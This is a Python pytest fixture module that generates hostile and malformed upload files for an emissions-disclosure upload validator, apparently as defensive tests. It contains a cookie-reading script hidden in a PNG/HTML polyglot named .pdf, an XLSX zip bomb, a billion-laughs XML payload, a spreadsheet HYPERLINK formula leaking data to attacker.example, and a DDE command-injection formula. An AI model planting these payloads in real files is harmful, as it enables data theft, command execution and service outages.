"""Hostile and awkward upload files, built in code at test time (no binary blobs in the repo).

Each builder writes one file into a directory (pytest's ``tmp_path``) and returns its path. The
disclosure CSV builders share the template's columns so that a file is wrong in exactly one way.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from pathlib import Path

from vendors.disclosure_upload import COLUMNS

GOOD_ROW = {
    "reporting_entity": "Acme Accelerators Inc.",
    "period_start": "2025-01-01",
    "period_end": "2025-12-31",
    "scope1_tco2e": "1250.5",
    "scope2_location_tco2e": "3400",
    "scope2_market_tco2e": "900",
    "scope3_upstream_tco2e": "",
    "scope3_upstream_categories": "",
    "revenue": "",
    "revenue_currency": "",
    "allocated_to_us_tco2e": "",
    "allocation_boundary": "",
    "allocation_method": "",
    "allocation_uncertainty_pct": "",
    "verification": "limited",
    "verification_standard": "iso_14064_3",
    "verifier": "Verifier GmbH",
    "methodology_notes": "GHG Protocol Corporate Standard",
}


def disclosure_row(**overrides) -> dict:
    row = dict(GOOD_ROW)
    row.update(overrides)
    return row


def disclosure_csv_text(rows, *, delimiter: str = ",", columns=COLUMNS) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return buffer.getvalue()


def disclosure_csv(
    directory: Path,
    rows,
    *,
    name: str = "disclosures.csv",
    delimiter: str = ",",
    encoding: str = "utf-8",
) -> Path:
    path = Path(directory) / name
    path.write_bytes(disclosure_csv_text(rows, delimiter=delimiter).encode(encoding))
    return path


def disclosure_xlsx(directory: Path, rows, *, name: str = "disclosures.xlsx") -> Path:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Disclosures"
    sheet.append(list(COLUMNS))
    for row in rows:
        sheet.append([row.get(column, "") for column in COLUMNS])
    path = Path(directory) / name
    workbook.save(path)
    return path


# --- the corpus --------------------------------------------------------------------------------


def html_png_polyglot_pdf(directory: Path) -> Path:
    """A valid PNG signature and header chunk followed by an HTML page with a script, named .pdf."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    path = Path(directory) / "certificate.pdf"
    path.write_bytes(png + chunk(b"tEXt", b"Comment\x00" + html) + html)
    return path


def zip_named_xlsx(directory: Path) -> Path:
    path = Path(directory) / "disclosures.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return path


def xlsx_zip_bomb(directory: Path, megabytes: int = 64) -> Path:
    """A workbook-shaped ZIP whose sheet inflates from ~64 kB to ``megabytes`` MB of spaces."""
    path = Path(directory) / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                sheet.write(block)
    return path


def xlsx_billion_laughs(directory: Path) -> Path:
    """A real workbook whose sheet XML declares nested entities (the "billion laughs")."""
    good = disclosure_xlsx(directory, [GOOD_ROW], name="good-for-laughs.xlsx")
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
            for n in range(1, 10)
        )
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    path = Path(directory) / "laughs.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                data = laughs.encode()
            target.writestr(entry, data)
    good.unlink()
    return path


HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def csv_with_formulas(directory: Path) -> Path:
    return disclosure_csv(
        directory,
        [
            disclosure_row(
                reporting_entity=HYPERLINK, methodology_notes="@SUM(1+1)*cmd|' /C calc'!A0"
            )
        ],
        name="formulas.csv",
    )


def utf16_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [GOOD_ROW], name="utf16.csv", encoding="utf-16")


def bom_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [GOOD_ROW], name="bom.csv", encoding="utf-8-sig")


def semicolon_csv(directory: Path) -> Path:
    # European Excel: semicolons between cells, and a decimal comma is NOT accepted (it would be
    # ambiguous), so the numbers here use points.
    return disclosure_csv(directory, [GOOD_ROW], name="semicolon.csv", delimiter=";")


def csv_with_value(directory: Path, column: str, value: str, name: str) -> Path:
    return disclosure_csv(directory, [disclosure_row(**{column: value})], name=name)


def empty_file(directory: Path) -> Path:
    path = Path(directory) / "empty.csv"
    path.write_bytes(b"")
    return path


def header_only_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [], name="header-only.csv")


def many_rows_csv(directory: Path, rows: int = 100_000, *, name: str = "many.csv") -> Path:
    """``rows`` valid, distinct rows (one reporting entity per row), streamed to disk."""
    path = Path(directory) / name
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(COLUMNS)
        template = [GOOD_ROW[column] for column in COLUMNS]
        entity = COLUMNS.index("reporting_entity")
        scope1 = COLUMNS.index("scope1_tco2e")
        for number in range(rows):
            template[entity] = f"Entity {number:06d}"
            template[scope1] = f"{1000 + number % 977}.{number % 10}"
            writer.writerow(template)
    return path
